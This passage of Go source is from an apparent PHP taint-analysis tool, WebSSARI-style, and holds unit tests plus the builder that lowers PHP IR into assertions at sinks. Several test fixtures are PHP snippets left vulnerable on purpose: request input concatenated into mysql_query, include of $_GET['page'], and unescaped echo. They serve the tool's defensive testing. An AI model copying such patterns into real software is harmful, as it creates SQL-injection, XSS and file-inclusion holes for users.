func TestCompoundConcatAssignAccumulates(t *testing.T) {
	p := build(t, `<?php
$q = "SELECT ";
$q .= $_GET['cols'];
mysql_query($q);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestUnsetClearsWholeVarOnly(t *testing.T) {
	p := build(t, `<?php
$a = $_GET['x'];
unset($a);
echo $a;
$b = $_GET['y'];
unset($b['k']);
echo $b;`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (only element unset keeps taint)\n%s", len(vs), p)
	}
}

func TestIncludeSplicing(t *testing.T) {
	files := map[string]string{
		"lib.php": `<?php function say($m) { echo $m; }`,
	}
	loader := func(path string) ([]byte, error) {
		if src, ok := files[path]; ok {
			return []byte(src), nil
		}
		return nil, fmt.Errorf("no such file %q", path)
	}
	p := build(t, `<?php
include 'lib.php';
say($_GET['x']);`, func(o *Options) { o.Loader = loader })
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s\nwarnings: %v", len(vs), p, p.Warnings)
	}
}

func TestIncludeOnceAndCycles(t *testing.T) {
	files := map[string]string{
		"a.php": `<?php include_once 'b.php'; include_once 'b.php';`,
		"b.php": `<?php include 'a.php'; echo $_GET['x'];`,
	}
	loader := func(path string) ([]byte, error) {
		if src, ok := files[path]; ok {
			return []byte(src), nil
		}
		return nil, fmt.Errorf("no such file %q", path)
	}
	p := build(t, `<?php include 'a.php';`, func(o *Options) { o.Loader = loader })
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (b.php spliced once)\n%s", len(vs), p)
	}
	cycleWarned := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "cycle") {
			cycleWarned = true
		}
	}
	if !cycleWarned {
		t.Fatalf("want include-cycle warning, got %v", p.Warnings)
	}
}

func TestDynamicIncludeIsRFISink(t *testing.T) {
	p := build(t, `<?php include $_GET['page'];`)
	vs := violations(p)
	if len(vs) != 1 || vs[0].Assert.Fn != "include" {
		t.Fatalf("want one include-sink violation, got %+v\n%s", vs, p)
	}
}

func TestVarVarConservative(t *testing.T) {
	p := build(t, `<?php $name = 'x'; echo $$name;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (variable variable is ⊤)\n%s", len(vs), p)
	}
}

func TestSessionIsTrusted(t *testing.T) {
	p := build(t, `<?php echo $_SESSION['username'];`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (default prelude trusts _SESSION)\n%s", len(vs), p)
	}
}

func TestCustomSinkViaPrelude(t *testing.T) {
	// Figure 7 needs DoSQL as a project-specific sink.
	pre := prelude.Default()
	pre.AddSink("DoSQL", pre.Lattice().Top(), 1)
	o := Options{Prelude: pre}
	prog, errs := BuildSource("t.php", []byte(`<?php
$sid = $_GET['sid'];
$iq = "SELECT * FROM groups WHERE sid=$sid";
DoSQL($iq);`), o)
	if len(errs) != 0 {
		t.Fatalf("errs: %v", errs)
	}
	if vs := violations(prog); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), prog)
	}
}

func TestDiameterAndSize(t *testing.T) {
	p := build(t, `<?php
$a = 1;
if ($c) { $b = 2; $d = 3; } else { $e = 4; }
$f = 5;`)
	if d := p.Diameter(); d != 5 {
		t.Fatalf("diameter = %d, want 5 (a, if, b, d, f)", d)
	}
	if n := p.Size(); n != 6 {
		t.Fatalf("size = %d, want 6", n)
	}
}

func TestTernaryJoinsBothArms(t *testing.T) {
	p := build(t, `<?php $x = $cond ? $_GET['a'] : 'safe'; echo $x;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestNestedCallArgAssignHoisted(t *testing.T) {
	p := build(t, `<?php f($x = $_GET['a']); echo $x;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (nested assignment must hoist)\n%s", len(vs), p)
	}
}

func TestMaxCmdsTruncation(t *testing.T) {
	var sb strings.Builder
	sb.WriteString("<?php\n")
	for i := 0; i < 50; i++ {
		fmt.Fprintf(&sb, "$v%d = %d;\n", i, i)
	}
	p := build(t, sb.String(), func(o *Options) { o.MaxCmds = 10 })
	if p.Size() > 10 {
		t.Fatalf("size = %d, want ≤ 10", p.Size())
	}
	found := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "truncated") {
			found = true
		}
	}
	if !found {
		t.Fatalf("want truncation warning")
	}
}

func TestAIStringRendering(t *testing.T) {
	p := build(t, `<?php if ($c) { $x = $_GET['a']; } echo $x;`)
	s := p.String()
	for _, frag := range []string{"if b0 then", "t($x)", "assert(", "echo"} {
		if !strings.Contains(s, frag) {
			t.Errorf("AI dump missing %q:\n%s", frag, s)
		}
	}
}
