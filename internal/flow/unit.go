package flow

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"

	"webssari/internal/ai"
	"webssari/internal/ir"
	"webssari/internal/lattice"
	"webssari/internal/php/ast"
	"webssari/internal/php/token"
	"webssari/internal/policy"
	"webssari/internal/prelude"
)

// BuildUnit filters one lowered IR unit (plus its static includes, which
// are parsed and lowered on resolution) into an AI program. It is the
// production F(p) path; BuildAST remains as the pre-IR reference whose
// output this path reproduces byte for byte on the legacy subset, while
// additionally supporting closures and foreach-by-reference.
func BuildUnit(unit *ir.Unit, opts Options) (*ai.Program, error) {
	opts, err := normalizeOptions(opts)
	if err != nil {
		return nil, err
	}

	b := &ubuilder{
		opts:        opts,
		pre:         opts.Prelude,
		lat:         opts.Prelude.Lattice(),
		policy:      opts.Policy,
		funcs:       make(map[string]*ir.Func),
		classFuncs:  make(map[string]*ir.Func),
		methodCount: make(map[string]int),
		inlineDepth: make(map[string]int),
		included:    make(map[string]bool),
		closureBind: make(map[string]*ir.Func),
		scope:       &scope{globals: make(map[string]bool)},
	}
	if opts.Policy != nil && opts.Policy.HasContexts() {
		b.htmlctx = policy.NewHTMLContext()
	}
	b.registerDecls(unit)
	b.collectVarUsage(unit)

	cmds := b.buildBlock(unit.Main)

	initial := make(map[string]lattice.Elem)
	for _, name := range b.pre.Vars() {
		initial[name] = b.pre.VarType(name)
	}
	prog := &ai.Program{
		File:         unit.File,
		Cmds:         cmds,
		Branches:     b.branchID,
		Lat:          b.lat,
		InitialTypes: initial,
		Warnings:     b.warnings,
		Truncated:    b.truncated,

		UnresolvedIncludes: b.unresolvedIncludes,
		IncludeHashes:      b.includeHashes,
		IncludeMisses:      b.includeMisses,
	}
	if opts.Policy != nil {
		prog.Policy = opts.Policy.Name()
	}
	return prog, nil
}

// ubuilder is the IR-consuming twin of builder: a mechanical port of the
// AST walker onto ir nodes, preserving its emission order, statement-site
// bookkeeping, branch-ID allocation, and warning text exactly.
type ubuilder struct {
	opts Options
	pre  *prelude.Prelude
	lat  *lattice.Lattice

	// policy is the active security policy (nil for bare-prelude runs);
	// htmlctx is its HTML output-context machine, non-nil only when the
	// policy declares contexts. The machine advances over inline-HTML
	// chunks and the literal parts of contextual sink arguments, in
	// source order.
	policy  *policy.Compiled
	htmlctx *policy.HTMLContext

	funcs       map[string]*ir.Func // lower name → func
	classFuncs  map[string]*ir.Func // "class::method" (lower)
	methodCount map[string]int      // lower method name → #classes defining it

	cmds        []ai.Cmd
	cmdCount    int
	branchID    int
	instID      int
	inlineDepth map[string]int

	scope        *scope
	curStmtPos   token.Pos
	curStmtEnd   int
	warnings     []string
	includeStack []string
	included     map[string]bool
	truncated    bool

	unresolvedIncludes []string
	includeHashes      map[string]string
	includeMisses      map[string]bool
	preVars            map[string]bool

	extractTargets []string

	// closureBind tracks variables directly bound to an anonymous function
	// by straight-line assignment ($f = function (...) {...}), so later
	// $f(...) calls unfold the closure body. Any other write to the
	// variable drops the binding (conservative).
	closureBind map[string]*ir.Func
}

func (b *ubuilder) recordIncludeHit(resolved string, src []byte) {
	if b.includeHashes == nil {
		b.includeHashes = make(map[string]string)
	}
	sum := sha256.Sum256(src)
	b.includeHashes[resolved] = hex.EncodeToString(sum[:])
}

func (b *ubuilder) recordIncludeMiss(cand string) {
	if b.includeMisses == nil {
		b.includeMisses = make(map[string]bool)
	}
	b.includeMisses[cand] = true
}

func (b *ubuilder) warnf(pos token.Pos, format string, args ...any) {
	b.warnings = append(b.warnings, fmt.Sprintf("%s: %s", pos, fmt.Sprintf(format, args...)))
}

func (b *ubuilder) emit(c ai.Cmd) {
	if set, ok := c.(*ai.Set); ok {
		// Any write to a variable drops the closure binding it may have
		// held; trAssign re-binds immediately after on a direct closure
		// assignment.
		delete(b.closureBind, set.Var)
	}
	if b.cmdCount >= b.opts.MaxCmds {
		if !b.truncated {
			b.truncated = true
			b.warnings = append(b.warnings,
				fmt.Sprintf("AI truncated at %d commands (MaxCmds)", b.opts.MaxCmds))
		}
		return
	}
	b.cmdCount++
	b.cmds = append(b.cmds, c)
}

// collect runs fn with a fresh command buffer and returns what it emitted.
func (b *ubuilder) collect(fn func()) []ai.Cmd {
	saved := b.cmds
	b.cmds = nil
	fn()
	out := b.cmds
	b.cmds = saved
	return out
}

func (b *ubuilder) site(n ir.Node) ai.Site {
	return ai.Site{
		Pos:     n.Pos(),
		End:     n.End(),
		StmtPos: b.curStmtPos,
		StmtEnd: b.curStmtEnd,
	}
}

func (b *ubuilder) resolveVar(name string) string {
	if b.scope.prefix == "" || superglobals[name] || b.scope.globals[name] {
		return name
	}
	if b.preHasVar(name) {
		return name
	}
	return b.scope.prefix + name
}

func (b *ubuilder) preHasVar(name string) bool {
	if b.preVars == nil {
		b.preVars = make(map[string]bool)
		for _, v := range b.pre.Vars() {
			b.preVars[v] = true
		}
	}
	return b.preVars[name]
}

// ------------------------------------------------------------ declarations

// registerDecls registers the unit's hoisted functions for call
// resolution. Unit.Funcs is in the declaration pre-pass's walk order, so
// first-wins duplicate handling matches the AST path; nested declarations
// and closures stay invisible, as they were to the pre-IR engine.
func (b *ubuilder) registerDecls(u *ir.Unit) {
	for _, f := range u.Funcs {
		if f.Nested || f.Closure {
			continue
		}
		key := ast.LowerName(f.Name)
		if f.Method {
			b.classFuncs[ast.LowerName(f.Class)+"::"+key] = f
			b.methodCount[key]++
		} else if _, dup := b.funcs[key]; !dup {
			b.funcs[key] = f
		}
	}
}

// lookupMethod resolves a method body: exactly by class when known, or by
// unique method name across all classes.
func (b *ubuilder) lookupMethod(class, name string) (*ir.Func, bool) {
	key := ast.LowerName(name)
	if class != "" {
		fd, ok := b.classFuncs[ast.LowerName(class)+"::"+key]
		return fd, ok
	}
	if b.methodCount[key] != 1 {
		return nil, false
	}
	for k, fd := range b.classFuncs {
		if strings.HasSuffix(k, "::"+key) {
			return fd, true
		}
	}
	return nil, false
}

// collectVarUsage computes the extract() candidate set over the unit:
// names read somewhere but never assigned anywhere.
func (b *ubuilder) collectVarUsage(u *ir.Unit) {
	read := make(map[string]bool)
	written := make(map[string]bool)
	var walkExpr func(e ir.Expr, isWrite bool)
	walkExpr = func(e ir.Expr, isWrite bool) {
		switch e := e.(type) {
		case nil:
		case *ir.Var:
			if isWrite {
				written[e.Name] = true
			} else {
				read[e.Name] = true
			}
		case *ir.VarVar:
			walkExpr(e.Inner, false)
		case *ir.Index:
			walkExpr(e.Arr, isWrite)
			walkExpr(e.Key, false)
		case *ir.Prop:
			walkExpr(e.Obj, isWrite)
		case *ir.Interp:
			for _, p := range e.Parts {
				walkExpr(p, false)
			}
		case *ir.Array:
			for _, it := range e.Items {
				walkExpr(it.Key, false)
				walkExpr(it.Val, false)
			}
		case *ir.Cast:
			walkExpr(e.X, false)
		case *ir.Unary:
			walkExpr(e.X, false)
		case *ir.Concat:
			walkExpr(e.L, false)
			walkExpr(e.R, false)
		case *ir.Bin:
			walkExpr(e.L, false)
			walkExpr(e.R, false)
		case *ir.Assign:
			walkExpr(e.LHS, true)
			walkExpr(e.RHS, false)
		case *ir.Ternary:
			walkExpr(e.Cond, false)
			walkExpr(e.Then, false)
			walkExpr(e.Else, false)
		case *ir.Call:
			walkExpr(e.Func, false)
			for _, a := range e.Args {
				walkExpr(a, false)
			}
		case *ir.MethodCall:
			walkExpr(e.Obj, false)
			for _, a := range e.Args {
				walkExpr(a, false)
			}
		case *ir.StaticCall:
			for _, a := range e.Args {
				walkExpr(a, false)
			}
		case *ir.New:
			for _, a := range e.Args {
				walkExpr(a, false)
			}
		case *ir.Include:
			walkExpr(e.Path, false)
		case *ir.Isset:
			for _, a := range e.Args {
				walkExpr(a, false)
			}
		case *ir.Empty:
			walkExpr(e.Arg, false)
		case *ir.List:
			for _, tgt := range e.Targets {
				walkExpr(tgt, true)
			}
		case *ir.Exit:
			walkExpr(e.Arg, false)
			// Closures are hoisted Funcs; their bodies are walked below.
		}
	}
	var walkBlock func(bl ir.Block)
	walkInstr := func(in ir.Instr) {
		switch in := in.(type) {
		case *ir.Eval:
			walkExpr(in.X, false)
		case *ir.Echo:
			for _, a := range in.Args {
				walkExpr(a, false)
			}
		case *ir.Branch:
			walkExpr(in.Cond, false)
			walkBlock(in.Then)
			walkBlock(in.Else)
		case *ir.Loop:
			for _, e := range in.Init {
				walkExpr(e, false)
			}
			for _, e := range in.Cond {
				walkExpr(e, false)
			}
			for _, e := range in.Post {
				walkExpr(e, false)
			}
			walkBlock(in.Body)
		case *ir.Foreach:
			walkExpr(in.Subject, false)
			if in.Key != nil {
				walkExpr(in.Key, true)
			}
			walkExpr(in.Val, true)
			walkBlock(in.Body)
		case *ir.Switch:
			walkExpr(in.Subject, false)
			for _, c := range in.Cases {
				walkExpr(c.Match, false)
				walkBlock(c.Body)
			}
		case *ir.Return:
			walkExpr(in.X, false)
		case *ir.StaticDecl:
			for _, v := range in.Vars {
				written[v.Name] = true
				walkExpr(v.Init, false)
			}
		case *ir.Unset:
			for _, a := range in.Args {
				walkExpr(a, false)
			}
		}
	}
	walkBlock = func(bl ir.Block) {
		for _, in := range bl {
			walkInstr(in)
		}
	}
	walkBlock(u.Main)
	// Every hoisted function — plain, method, nested, or closure — has its
	// parameters written and body walked, matching the AST walker's visit
	// of declarations wherever they appear in the statement tree.
	for _, f := range u.Funcs {
		for _, p := range f.Params {
			written[p.Name] = true
		}
		for _, use := range f.Uses {
			read[use.Name] = true
			if use.ByRef {
				written[use.Name] = true
			}
		}
		walkBlock(f.Body)
	}

	var batch []string
	for name := range read {
		if !written[name] && !superglobals[name] && !b.preHasVar(name) {
			batch = append(batch, name)
		}
	}
	sort.Strings(batch)
	b.extractTargets = append(b.extractTargets, batch...)
}

// legacyTypeName maps an IR expression to the AST type name the pre-IR
// engine printed in %T-style warnings, keeping warning text byte-identical
// across the two paths.
func legacyTypeName(e ir.Expr) string {
	switch e := e.(type) {
	case nil:
		return "<nil>"
	case *ir.Lit:
		switch e.Kind {
		case ir.LitInt:
			return "*ast.IntLit"
		case ir.LitFloat:
			return "*ast.FloatLit"
		case ir.LitBool:
			return "*ast.BoolLit"
		case ir.LitNull:
			return "*ast.NullLit"
		default:
			return "*ast.ConstFetch"
		}
	case *ir.Str:
		return "*ast.StringLit"
	case *ir.Interp:
		return "*ast.Interp"
	case *ir.Array:
		return "*ast.ArrayLit"
	case *ir.Var:
		return "*ast.Var"
	case *ir.VarVar:
		return "*ast.VarVar"
	case *ir.Index:
		return "*ast.Index"
	case *ir.Prop:
		return "*ast.Prop"
	case *ir.Cast:
		return "*ast.Cast"
	case *ir.Unary:
		return "*ast.Unary"
	case *ir.Concat, *ir.Bin:
		return "*ast.Binary"
	case *ir.Assign:
		return "*ast.Assign"
	case *ir.Ternary:
		return "*ast.Ternary"
	case *ir.Call:
		return "*ast.Call"
	case *ir.MethodCall:
		return "*ast.MethodCall"
	case *ir.StaticCall:
		return "*ast.StaticCall"
	case *ir.New:
		return "*ast.New"
	case *ir.Include:
		return "*ast.IncludeExpr"
	case *ir.Isset:
		return "*ast.IssetExpr"
	case *ir.Empty:
		return "*ast.EmptyExpr"
	case *ir.List:
		return "*ast.ListExpr"
	case *ir.Exit:
		return "*ast.ExitExpr"
	case *ir.Closure:
		return "*ast.Closure"
	case *ir.Opaque:
		return e.LegacyType
	default:
		return fmt.Sprintf("%T", e)
	}
}
