package flow

// Behavior tests for the subset widening the IR front end enables:
// closures/anonymous functions (inlined like named functions when the
// call target is statically bound) and foreach by reference (weak
// update of the iterated subject). These constructs only exist on the
// IR path — the legacy AST builder approximates them to ⊥/⊤ — so there
// is deliberately no differential counterpart here.

import (
	"strings"
	"testing"
)

func TestClosureInlinedThroughVariable(t *testing.T) {
	p := build(t, `<?php
$f = function ($a) { return $a; };
echo $f($_GET['x']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (taint flows through closure)\n%s", len(vs), p)
	}
}

func TestClosureSanitizes(t *testing.T) {
	p := build(t, `<?php
$clean = function ($a) { return htmlspecialchars($a); };
echo $clean($_GET['x']);`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (closure sanitizes)\n%s", len(vs), p)
	}
}

func TestImmediatelyInvokedClosure(t *testing.T) {
	p := build(t, `<?php echo call_user_func(function () { return 'const'; });`)
	// call_user_func is not modeled; the closure literal itself is the
	// interesting case:
	p = build(t, `<?php $x = function ($v) { return $v; }; echo $x($_POST['y']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestClosureCapturesByValue(t *testing.T) {
	// By-value capture snapshots the outer variable at closure creation…
	p := build(t, `<?php
$prefix = $_GET['p'];
$render = function ($body) use ($prefix) { echo $prefix . $body; };
$render('safe');`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (tainted capture reaches sink)\n%s", len(vs), p)
	}
}

func TestClosureCaptureByRefWritesBack(t *testing.T) {
	p := build(t, `<?php
$acc = '';
$add = function () use (&$acc) { $acc = $_GET['x']; };
$add();
echo $acc;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (by-ref capture writes taint back)\n%s", len(vs), p)
	}
}

func TestClosureBindingInvalidatedByReassignment(t *testing.T) {
	// After $f is overwritten with a non-closure, calling $f(...) is a
	// dynamic call again: approximated as the join of its arguments,
	// with a warning — not silently inlined from the stale binding.
	p := build(t, `<?php
$f = function ($a) { return htmlspecialchars($a); };
$f = $_GET['which'];
echo $f($_GET['x']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (stale closure binding must not sanitize)\n%s", len(vs), p)
	}
	found := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "dynamic call target") {
			found = true
		}
	}
	if !found {
		t.Errorf("expected a dynamic-call warning, got %q", p.Warnings)
	}
}

func TestBareClosureValueIsInert(t *testing.T) {
	// A closure value reaching a sink directly is not tainted data.
	p := build(t, `<?php echo function () { return 1; };`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}

func TestForeachByRefTaintsSubject(t *testing.T) {
	p := build(t, `<?php
$rows = array('a', 'b');
foreach ($rows as &$row) { $row = $_GET['x']; }
echo $rows;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (by-ref body write flows to subject)\n%s", len(vs), p)
	}
}

func TestForeachByValueDoesNotTaintSubject(t *testing.T) {
	p := build(t, `<?php
$rows = array('a', 'b');
foreach ($rows as $row) { $row = $_GET['x']; }
echo $rows;`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (by-value writes stay local)\n%s", len(vs), p)
	}
}

func TestForeachByRefSanitizerWeakUpdate(t *testing.T) {
	// The subject update is a weak join: sanitizing each element cannot
	// prove the whole array clean (the selection may not execute).
	p := build(t, `<?php
$rows = array($_GET['a']);
foreach ($rows as &$row) { $row = htmlspecialchars($row); }
echo $rows;`)
	if vs := violations(p); len(vs) == 0 {
		t.Fatalf("violations = 0, want >0 (weak update keeps the tainted join)\n%s", p)
	}
}
