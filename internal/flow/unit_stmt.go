package flow

import (
	"path"
	"strings"

	"webssari/internal/ai"
	"webssari/internal/ir"
	"webssari/internal/php/parser"
	"webssari/internal/prelude"
)

func (b *ubuilder) buildBlock(bl ir.Block) []ai.Cmd {
	return b.collect(func() {
		for _, in := range bl {
			b.buildInstr(in)
		}
	})
}

func (b *ubuilder) buildInstr(in ir.Instr) {
	if in == nil {
		return
	}
	// Only reset the statement site at the outermost instruction nesting
	// level of the current build; nested expressions keep it. Nop markers
	// exist precisely to reset it at the statement boundaries the source
	// had (blocks, declarations, break/continue, inline HTML).
	b.curStmtPos = in.Pos()
	b.curStmtEnd = in.End()

	switch in := in.(type) {
	case *ir.Eval:
		if ex, ok := in.X.(*ir.Exit); ok {
			b.trExitExpr(ex)
			b.emit(&ai.Stop{Site: b.site(in)})
			return
		}
		b.trExpr(in.X)

	case *ir.Echo:
		b.emitSinkCall("echo", in.Args, in)

	case *ir.Nop:
		// No information flow: constant output, control transfer the
		// nondeterministic-branch model over-approximates, or a hoisted
		// declaration unfolded at call sites. Inline HTML does advance
		// the policy's output-context machine: the literal markup decides
		// which context the next dynamic output lands in.
		if in.Kind == "html" && b.htmlctx != nil {
			b.htmlctx.Feed(in.Text)
		}

	case *ir.Branch:
		b.buildBranch(in)

	case *ir.Loop:
		switch in.Kind {
		case ir.LoopWhile:
			// while e do c  ⇒  if e then c, repeated LoopUnroll times
			// (§3.2: "loop structures can be deconstructed into selection
			// structures"). The condition is evaluated before each unfolding
			// so its side effects are kept.
			b.trExpr(in.Cond[0])
			b.buildLoop(func() { b.trExpr(in.Cond[0]) }, in.Body, nil, in)

		case ir.LoopDoWhile:
			// The body executes at least once; remaining iterations become
			// selections.
			for _, st := range in.Body {
				b.buildInstr(st)
			}
			b.curStmtPos, b.curStmtEnd = in.Pos(), in.End()
			b.trExpr(in.Cond[0])
			if b.opts.LoopUnroll > 1 {
				saved := b.opts.LoopUnroll
				b.opts.LoopUnroll = saved - 1
				b.buildLoop(func() { b.trExpr(in.Cond[0]) }, in.Body, nil, in)
				b.opts.LoopUnroll = saved
			}

		case ir.LoopFor:
			for _, e := range in.Init {
				b.trExpr(e)
			}
			for _, e := range in.Cond {
				b.trExpr(e)
			}
			post := func() {
				for _, e := range in.Post {
					b.trExpr(e)
				}
				for _, e := range in.Cond {
					b.trExpr(e)
				}
			}
			b.buildLoop(nil, in.Body, post, in)
		}

	case *ir.Foreach:
		subj := b.trExpr(in.Subject)
		body := func() {
			// Key and value receive (an element of) the subject; element
			// types are dominated by the array's type in our array model.
			if in.Key != nil {
				b.assignTo(in.Key, subj, in.Subject, in)
			}
			b.assignTo(in.Val, subj, in.Subject, in)
			for _, st := range in.Body {
				b.buildInstr(st)
			}
			if in.ByRef {
				// foreach ($arr as &$v): writes to $v inside the body flow
				// back into the array (weak update — the body may not run,
				// and only some elements are overwritten).
				subjRoot, okS := b.pureRoot(in.Subject)
				valRoot, okV := b.pureRoot(in.Val)
				if okS && okV {
					b.emit(&ai.Set{
						Var:       subjRoot,
						RHS:       ai.NewJoin(ai.Var{Name: subjRoot}, ai.Var{Name: valRoot}),
						Site:      b.site(in),
						Synthetic: true,
					})
				}
			}
		}
		b.emitSelection(body, nil, in)

	case *ir.Switch:
		b.trExpr(in.Subject)
		for _, c := range in.Cases {
			if c.Match != nil {
				b.trExpr(c.Match)
			}
		}
		b.buildSwitchCases(in.Cases, in)

	case *ir.Return:
		if b.scope.retVar == "" {
			// Top-level return ends the page like stop.
			if in.X != nil {
				b.trExpr(in.X)
			}
			b.emit(&ai.Stop{Site: b.site(in)})
			return
		}
		rhs := ai.Expr(ai.Const{Type: b.lat.Bottom(), Lat: b.lat})
		if in.X != nil {
			rhs = b.trExpr(in.X)
		}
		// Join with previous returns: flow-insensitive over multiple return
		// statements, precise across branches (each arm assigns its own).
		set := &ai.Set{
			Var:       b.scope.retVar,
			RHS:       ai.NewJoin(ai.Var{Name: b.scope.retVar}, rhs),
			Site:      b.site(in),
			Synthetic: true,
		}
		if in.X != nil {
			// The returned expression is a real patch point.
			set.RHSPos = in.X.Pos()
			set.RHSEnd = in.X.End()
			set.Synthetic = false
		}
		b.emit(set)

	case *ir.Global:
		for _, name := range in.Names {
			b.scope.globals[name] = true
		}

	case *ir.StaticDecl:
		for _, v := range in.Vars {
			set := &ai.Set{Var: b.resolveVar(v.Name), Site: b.site(in), SrcVar: v.Name, Synthetic: true}
			set.RHS = ai.Expr(ai.Const{Type: b.lat.Bottom(), Lat: b.lat})
			if v.Init != nil {
				set.RHS = b.trExpr(v.Init)
				set.RHSPos = v.Init.Pos()
				set.RHSEnd = v.Init.End()
				set.Synthetic = false
			}
			b.emit(set)
		}

	case *ir.Unset:
		for _, a := range in.Args {
			// Only unsetting a whole variable clears its type; unsetting
			// one array element leaves the rest of the array's taint.
			if v, ok := a.(*ir.Var); ok {
				b.emit(&ai.Set{
					Var:       b.resolveVar(v.Name),
					RHS:       ai.Const{Type: b.lat.Bottom(), Lat: b.lat, Label: "unset"},
					Site:      b.site(in),
					SrcVar:    v.Name,
					Synthetic: true,
				})
			}
		}
	}
}

// buildBranch lowers a Branch to a nondeterministic ai.If. An
// elseif-derived branch (the sole instruction of its parent's Else block)
// is entered without resetting the statement site, exactly as the pre-IR
// if-chain recursion left it.
func (b *ubuilder) buildBranch(in *ir.Branch) {
	b.trExpr(in.Cond)
	id := b.branchID
	b.branchID++
	thenCmds := b.buildBlock(in.Then)
	elseCmds := b.collect(func() {
		if len(in.Else) == 1 {
			if next, ok := in.Else[0].(*ir.Branch); ok && next.Elseif {
				b.buildBranch(next)
				return
			}
		}
		for _, st := range in.Else {
			b.buildInstr(st)
		}
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Else: elseCmds, Site: b.site(in)})
}

// emitSelection wraps body (and optional post) in one nondeterministic
// branch with an empty else arm: the "may not execute" selection that
// loops and foreach statements deconstruct into.
func (b *ubuilder) emitSelection(body func(), post func(), site ir.Node) {
	id := b.branchID
	b.branchID++
	thenCmds := b.collect(func() {
		body()
		if post != nil {
			post()
		}
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Site: b.site(site)})
}

// buildLoop deconstructs a loop into LoopUnroll nested selections. cond
// evaluates the loop condition for side effects before each unfolding
// (may be nil); post runs after each body copy (for-loop post+cond).
func (b *ubuilder) buildLoop(cond func(), body ir.Block, post func(), site ir.Node) {
	var unfold func(k int)
	unfold = func(k int) {
		if k == 0 {
			return
		}
		b.emitSelection(func() {
			for _, st := range body {
				b.buildInstr(st)
			}
			if post != nil {
				post()
			}
			if k > 1 {
				if cond != nil {
					cond()
				}
				unfold(k - 1)
			}
		}, nil, site)
	}
	unfold(b.opts.LoopUnroll)
}

// buildSwitchCases lowers a switch into a chain of selections; fallthrough
// is over-approximated by treating each case body independently.
func (b *ubuilder) buildSwitchCases(cases []ir.SwitchCase, site ir.Node) {
	if len(cases) == 0 {
		return
	}
	head := cases[0]
	id := b.branchID
	b.branchID++
	thenCmds := b.buildBlock(head.Body)
	elseCmds := b.collect(func() {
		b.buildSwitchCases(cases[1:], site)
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Else: elseCmds, Site: b.site(site)})
}

// emitSinkCall emits the assertion for a SOC call if the prelude registers
// one; args are always evaluated for side effects.
func (b *ubuilder) emitSinkCall(name string, args []ir.Expr, site ir.Node) {
	sink, isSink := b.pre.SinkFor(name)
	if isSink && b.htmlctx != nil && b.policy.Contextual(name) {
		b.emitContextualSinkCall(sink, args, site)
		return
	}
	var checked []ai.Arg
	for i, a := range args {
		ex := b.trExpr(a)
		if isSink && sink.Checks(i+1) {
			checked = append(checked, ai.Arg{
				Expr: ex, ArgPos: i + 1, Pos: a.Pos(), End: a.End(),
			})
		}
	}
	if isSink && len(checked) > 0 {
		b.emit(&ai.Assert{
			Fn:    sink.Name,
			Args:  checked,
			Bound: sink.Bound,
			Class: b.sinkClass(name),
			Site:  b.site(site),
		})
	}
}

// sinkClass returns the policy-declared vulnerability class of a sink
// ("" without a policy, which keeps the classic by-name classification).
func (b *ubuilder) sinkClass(name string) string {
	if b.policy == nil {
		return ""
	}
	return b.policy.SinkClass(name)
}

// emitContextualSinkCall handles a sink whose precondition bound depends
// on the HTML output context (echo/print under a context-sensitive
// policy). Checked arguments are decomposed into literal and dynamic
// parts in evaluation order: literal text advances the output-context
// machine, and each dynamic part gets its own assertion against the
// bound of the context it lands in. The machine state is assumed
// unchanged across dynamic parts — exactly the non-interference property
// the per-context bounds enforce.
func (b *ubuilder) emitContextualSinkCall(sink prelude.Sink, args []ir.Expr, site ir.Node) {
	class := b.sinkClass(sink.Name)
	for i, a := range args {
		if !sink.Checks(i + 1) {
			b.trExpr(a)
			continue
		}
		argPos := i + 1
		var walk func(e ir.Expr)
		walk = func(e ir.Expr) {
			switch e := e.(type) {
			case *ir.Str:
				b.htmlctx.Feed(e.Value)
			case *ir.Interp:
				for _, part := range e.Parts {
					walk(part)
				}
			case *ir.Concat:
				walk(e.L)
				walk(e.R)
			case *ir.Lit:
				// Scalar literals emit their spelling; bare constants
				// have unknown text and are assumed context-neutral.
				if e.Kind != ir.LitConst {
					b.htmlctx.Feed(e.Text)
				}
			default:
				ex := b.trExpr(e)
				ctx := b.htmlctx.Current()
				bound := sink.Bound
				if cb, ok := b.policy.ContextBound(ctx); ok {
					bound = cb
				}
				b.emit(&ai.Assert{
					Fn:      sink.Name,
					Args:    []ai.Arg{{Expr: ex, ArgPos: argPos, Pos: e.Pos(), End: e.End()}},
					Bound:   bound,
					Class:   class,
					Context: ctx,
					Site:    b.site(site),
				})
			}
		}
		walk(a)
	}
}

// ------------------------------------------------------------------ include

